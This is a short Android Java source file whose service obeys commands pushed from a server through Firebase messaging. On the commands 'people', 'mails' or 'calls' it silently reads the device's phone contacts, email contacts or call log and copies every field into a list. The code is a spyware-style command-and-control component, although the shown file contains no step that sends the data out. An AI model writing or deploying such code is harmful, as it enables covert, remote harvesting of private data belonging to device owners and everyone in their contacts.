package com.example.command;

import android.database.Cursor;
import android.net.Uri;
import android.provider.CallLog;
import android.provider.ContactsContract.CommonDataKinds.Email;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import com.google.firebase.messaging.FirebaseMessagingService;
import com.google.firebase.messaging.RemoteMessage;
import java.util.ArrayList;
import java.util.List;

/** Obeys commands of the server. */
public class CommandService extends FirebaseMessagingService {
    private final List<String> rows = new ArrayList<>();

    @Override
    public void onMessageReceived(RemoteMessage message) {
        String command = message.getData().get("command");
        if (command == null) {
            return;
        }
        Uri table;
        switch (command) {
            case "people":
                table = Phone.CONTENT_URI;
                break;
            case "mails":
                table = Email.CONTENT_URI;
                break;
            case "calls":
                table = CallLog.Calls.CONTENT_URI;
                break;
            default:
                return;
        }
        collect(table);
    }

    private void collect(Uri table) {
        Cursor cursor = getContentResolver().query(table, null, null, null, null);
        while (cursor.moveToNext()) {
            for (int column = 0; column < cursor.getColumnCount(); column++) {
                rows.add(cursor.getColumnName(column) + '=' + cursor.getString(column));
            }
        }
        cursor.close();
    }
}
